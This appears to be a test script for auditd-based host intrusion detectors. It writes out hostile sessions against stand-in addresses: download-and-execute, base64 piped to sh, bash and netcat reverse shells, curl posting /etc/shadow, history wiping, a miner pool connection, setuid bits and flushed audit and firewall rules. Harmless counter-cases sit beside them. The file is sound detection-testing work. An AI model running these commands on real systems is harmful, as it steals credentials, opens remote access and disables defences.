# What is run on a machine: discovery, downloads, shells, traces.
. /record/auditd.lib

begin auditd; session 'id; whoami; uname -a; hostname; ps; df; mount'
gives host_discovery 'seven programs' 1 $log "$mine"
begin auditd; session 'id; id; id; id; id; id; id; id'
gives host_discovery 'one program, often' 0 $log "$mine"
begin auditd curl; session 'curl -s -o /tmp/x http://192.0.2.1/tool; cp /bin/true /tmp/x; chmod +x /tmp/x; /tmp/x'
gives host_download_execution 'fetched, made executable, run' 1 $log "$mine"
gives host_setuid_bit_set 'made executable' 0 $log "$mine"
begin auditd curl; session 'curl -s -o /tmp/page http://192.0.2.1/; /bin/true'
gives host_download_execution 'fetched, and an installed program run' 0 $log "$mine"
gives host_secrets_sent 'a page fetched' 0 $log "$mine"
gives host_reverse_shell 'a page fetched' 0 $log "$mine"
gives host_miner 'a page fetched' 0 $log "$mine"
begin auditd; session 'echo aWQK | base64 -d | sh'
gives host_encoded_execution 'decoded into a shell' 1 $log "$mine"
begin auditd; session 'echo text | base64; echo aWQK | base64 -d >/dev/null'
gives host_encoded_execution 'encoded, decoded' 0 $log "$mine"
begin auditd; session 'touch ~/.bash_history; rm -f ~/.bash_history; touch /tmp/old.1; rm -f /tmp/old.1'
gives host_history_removed 'the history' 1 $log "$mine"
begin auditd; session 'touch /tmp/old.1; rm -f /tmp/old.1; ls /tmp'
gives host_history_removed 'an old log' 0 $log "$mine"
gives host_files_removed 'one call' 0 $log "$mine"
begin auditd; session 'for i in 0 1 2 3 4 5 6 7 8 9; do rm -f /tmp/log.$i; done'
gives host_files_removed 'ten calls' 1 $log "$mine"
# Debian has no miner; audit tells of arguments alone.
begin auditd; session 'cp /bin/true /tmp/xmrig; /tmp/xmrig -o stratum+tcp://192.0.2.77:3333 -u wallet'
gives host_miner 'a pool in the arguments' 1 $log "$mine"
begin auditd; session 'bash -c "timeout 1 bash -i >& /dev/tcp/192.0.2.77/80 0>&1"'
gives host_reverse_shell 'a shell of bash' 1 $log "$mine"
begin auditd netcat-traditional; session 'timeout 1 nc.traditional -e /bin/sh 192.0.2.77 80'
gives host_reverse_shell 'netcat with a shell' 1 $log "$mine"
begin auditd netcat-openbsd; session 'nc.openbsd -zv -w 1 192.0.2.77 443'
gives host_reverse_shell 'a port that is tried' 0 $log "$mine"
begin auditd curl; session 'curl -s -m 2 -F f=@/etc/shadow http://192.0.2.77/; true'
gives host_secrets_sent 'passwords sent' 1 $log "$mine"
begin auditd; session 'cp /bin/true /tmp/bit; chmod u+s /tmp/bit'
gives host_setuid_bit_set 'by letters' 1 $log "$mine"
begin auditd; session 'cp /bin/true /tmp/bit; chmod 4755 /tmp/bit'
gives host_setuid_bit_set 'by number' 1 $log "$mine"
begin auditd; session 'cp /bin/true /tmp/bit; chmod 755 /tmp/bit; chmod g+w /tmp/bit'
gives host_setuid_bit_set 'ordinary rights' 0 $log "$mine"
begin auditd; root_session 'auditctl -D -k none; iptables -F; true'
gives host_defence_stopped 'rules of audit and of the firewall removed' 1 $log "$mine"
begin auditd; root_session 'iptables -L -n; auditctl -l; true'
gives host_defence_stopped 'rules listed' 0 $log "$mine"
begin auditd passwd; session 'passwd </dev/tty & sleep 1; kill -SEGV $!; wait'
gives host_setuid_crash 'passwd crashes' 1 $log "$mine"
begin auditd; session 'sleep 5 & kill -SEGV $!; wait'
gives host_setuid_crash 'an ordinary program crashes' 0 $log "$mine"
